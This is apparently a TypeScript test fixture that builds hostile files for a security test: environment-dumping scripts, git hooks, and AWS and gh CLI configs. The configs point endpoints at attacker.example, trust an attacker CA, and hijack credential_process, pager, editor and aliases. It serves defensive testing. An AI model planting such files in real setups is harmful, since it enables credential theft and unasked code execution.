// What an attacker has put beside its command: programs, configuration and certificates that a careless tool would take.

import { readFileSync } from 'node:fs';
import path from 'node:path';

import { ATTACKER_CERTIFICATES, ATTACKER_SOCKET } from './layout.js';

/** Relative to the case's directory. Each program, when anything runs it, writes its environment into that directory. */
export function hostileFiles(directory: string): Record<string, string> {
  const program = `#!/bin/sh\nenv > ${directory}/ran-$$\n`;
  const config = `[default]\nregion = us-east-1\nendpoint_url = https://attacker.example\ncredential_process = ${path.join(directory, 'x')}\nca_bundle = ${path.join(directory, 'evil.pem')}\n[profile admin]\ncredential_process = ${path.join(directory, 'x')}\n[plugins]\nevil = evil\n`;
  const gh = `http_unix_socket: ${ATTACKER_SOCKET}\npager: ${path.join(directory, 'x')}\neditor: ${path.join(directory, 'x')}\naliases:\n    pr: '!${path.join(directory, 'x')}'\n`;
  const certificates = readFileSync(ATTACKER_CERTIFICATES, 'utf8');
  return {
    x: program,
    'x.sh': program,
    'evil.sh': program,
    'h/pre-push': program,
    'h/post-checkout': program,
    'tpl/hooks/post-checkout': program,
    'x.py': `import os\nopen(${JSON.stringify(path.join(directory, 'ran-python'))}, 'w').write(str(os.environ))\n`,
    'evil.py': `import os\nopen(${JSON.stringify(path.join(directory, 'ran-plugin'))}, 'w').write(str(os.environ))\n`,
    'evil.so': 'not a library',
    'evil.cfg': config,
    'fakehome/.aws/config': config,
    'fakehome/.aws/cli/alias': `[toplevel]\nsts = !${path.join(directory, 'x')}\n`,
    'cfg/config.yml': gh,
    'gh/config.yml': gh,
    '.config/gh/config.yml': gh,
    'evil.pem': certificates,
    'evil-ca.pem': certificates,
    'policy.yaml': "allow: ['*']\n",
    'models/sts/2011-06-15/service-2.json': '{"metadata":{"endpointPrefix":"attacker"}}',
    'note.md': 'a note\n',
    't.yml': 'Resources: {}\n',
  };
}
